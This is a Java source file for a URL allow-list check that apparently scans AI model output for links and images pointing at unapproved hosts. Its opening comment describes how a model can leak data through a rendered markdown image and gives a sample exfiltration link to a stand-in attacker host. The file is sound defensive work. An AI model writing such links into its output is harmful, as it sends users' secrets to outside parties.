package io.troupe.guard.sink;

import java.net.IDN;
import java.net.URI;
import java.net.URISyntaxException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * URLs outside an allow-list of hosts, the channel of data exfiltration through links and images: a model that
 * writes {@code ![](https://evil.example/?q=SECRET)} sends the secret as soon as the image is rendered.
 *
 * <p>Finds URLs in markdown images, links and reference definitions, HTML {@code src}/{@code href}/{@code action}
 * attributes, autolinks and bare text, and refuses those whose scheme is not http or https, whose host is not
 * allowed (hosts are compared after IDN conversion, so look-alike Unicode hosts do not match), that carry user
 * information ({@code https://allowed.example@evil.example}) or, unless allowed, an IP-literal host. An allowed
 * entry {@code example.com} matches that host only, {@code *.example.com} its subdomains too.
 */
public final class UrlCheck implements SinkCheck {
    private static final Pattern MARKDOWN = Pattern.compile("(!?)\\[[^\\]\\n]{0,500}]\\(\\s*<?([^)\\s>]+)");
    private static final Pattern REFERENCE =
            Pattern.compile("(?m)^\\s{0,3}\\[[^\\]\\n]{1,200}]:\\s*<?(\\S+?)>?(?:\\s|$)");
    private static final Pattern HTML_ATTRIBUTE = Pattern.compile(
            "(?i)<\\s*(\\w+)[^>]{0,2000}?\\s(src|href|action|formaction|srcset|poster|data|background)\\s*=\\s*[\"']?([^\"'\\s>]+)");
    private static final Pattern BARE = Pattern.compile(
            "(?i)\\b((?:https?|ftp|file|data|javascript|vbscript|gopher|ws|wss):(?://)?[^\\s<>\"'`)\\]]+)");
    private static final Pattern IP_HOST = Pattern.compile("^\\[?[0-9a-f:.]+]?$");

    private final Set<String> allowed;

    private UrlCheck(Set<String> allowed) {
        this.allowed = allowed.stream()
                .map(h -> h.toLowerCase(Locale.ROOT))
                .collect(java.util.stream.Collectors.toUnmodifiableSet());
    }

    /** A check that lets through links to {@code hosts} only (exact names, or {@code *.domain} for subdomains). */
    public static UrlCheck allowing(Set<String> hosts) {
        return new UrlCheck(hosts);
    }

    @Override
    public String sink() {
        return "url";
    }

    /** A URL found in a text, where it was, and whether it loads by itself (an image) or needs a click. */
    public record Found(String url, int start, int end, boolean image) {}

    /** Every URL in {@code text}, in order of position. */
    public static List<Found> find(String text) {
        Map<Integer, Found> byStart = new LinkedHashMap<>();
        Matcher m = MARKDOWN.matcher(text);
        while (m.find()) {
            byStart.putIfAbsent(
                    m.start(2),
                    new Found(m.group(2), m.start(2), m.end(2), m.group(1).equals("!")));
        }
        m = REFERENCE.matcher(text);
        while (m.find()) {
            // a reference definition loads as an image when some ![…][id] uses it: treat it as one to be safe
            byStart.putIfAbsent(m.start(1), new Found(m.group(1), m.start(1), m.end(1), true));
        }
        m = HTML_ATTRIBUTE.matcher(text);
        while (m.find()) {
            boolean image = !m.group(2).equalsIgnoreCase("href") && !m.group(2).equalsIgnoreCase("action");
            byStart.putIfAbsent(m.start(3), new Found(m.group(3), m.start(3), m.end(3), image));
        }
        m = BARE.matcher(text);
        while (m.find()) {
            int start = m.start(1);
            boolean inside = byStart.values().stream().anyMatch(f -> start >= f.start() && start < f.end());
            if (!inside) {
                String url = trimPunctuation(m.group(1));
                byStart.put(start, new Found(url, start, start + url.length(), false));
            }
        }
        return byStart.values().stream()
                .sorted(java.util.Comparator.comparingInt(Found::start))
                .toList();
    }

    @Override
    public List<Violation> check(String text) {
        List<Violation> violations = new ArrayList<>();
        for (Found found : find(text)) {
            String problem = problem(found.url());
            if (problem != null) {
                String what = found.image() ? "an image or embed that loads by itself" : "a link";
                violations.add(new Violation(found.image() ? "url.image" : "url.link", what + " " + problem));
            }
        }
        return violations;
    }

    /** Why {@code url} is refused, or null when it is allowed. */
    public String problem(String url) {
        String u = url.strip();
        if (u.startsWith("//")) {
            u = "https:" + u;
        }
        URI uri;
        try {
            uri = new URI(u);
        } catch (URISyntaxException e) {
            return "has a URL that cannot be parsed";
        }
        String scheme = uri.getScheme() == null ? "" : uri.getScheme().toLowerCase(Locale.ROOT);
        if (scheme.isEmpty()) {
            return null; // a relative link stays on the page's own host
        }
        if (!scheme.equals("http") && !scheme.equals("https")) {
            return "uses the scheme '" + scheme + ":'; only http and https are allowed";
        }
        String host = uri.getHost();
        if (host == null && uri.getRawAuthority() != null) {
            host = uri.getRawAuthority().replaceAll("^.*@", "").replaceAll(":\\d+$", "");
        }
        if (host == null || host.isBlank()) {
            return "has no host";
        }
        if (uri.getRawUserInfo() != null
                || (uri.getRawAuthority() != null && uri.getRawAuthority().contains("@"))) {
            return "carries user information before the host ('…@" + host + "')";
        }
        String ascii;
        try {
            ascii = IDN.toASCII(host, IDN.ALLOW_UNASSIGNED).toLowerCase(Locale.ROOT);
        } catch (IllegalArgumentException e) {
            return "has an invalid host name";
        }
        if (ascii.endsWith(".")) {
            ascii = ascii.substring(0, ascii.length() - 1);
        }
        if (hostAllowed(ascii)) {
            return null;
        }
        if (IP_HOST.matcher(ascii).matches()) {
            return "points at the IP address " + ascii + ", which is not on the allow-list";
        }
        return "points at " + ascii + ", which is not on the allow-list " + allowed;
    }

    private boolean hostAllowed(String host) {
        if (allowed.contains(host)) {
            return true;
        }
        for (String entry : allowed) {
            if (entry.startsWith("*.") && (host.endsWith(entry.substring(1)) || host.equals(entry.substring(2)))) {
                return true;
            }
        }
        return false;
    }

    private static String trimPunctuation(String url) {
        int end = url.length();
        while (end > 0 && ".,;:!?".indexOf(url.charAt(end - 1)) >= 0) {
            end--;
        }
        return url.substring(0, end);
    }
}
